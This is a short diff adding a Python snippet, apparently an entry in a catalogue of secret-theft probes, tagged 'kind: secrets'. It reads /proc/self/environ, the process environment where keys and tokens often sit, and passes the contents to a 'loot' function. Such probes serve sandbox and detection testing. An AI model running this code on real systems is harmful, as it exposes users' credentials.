@@ -1,0 +1,5 @@
+# kind: secrets
+# tries: The environment in /proc
+
+with open("/proc/self/environ") as file:
+    loot(file.read())
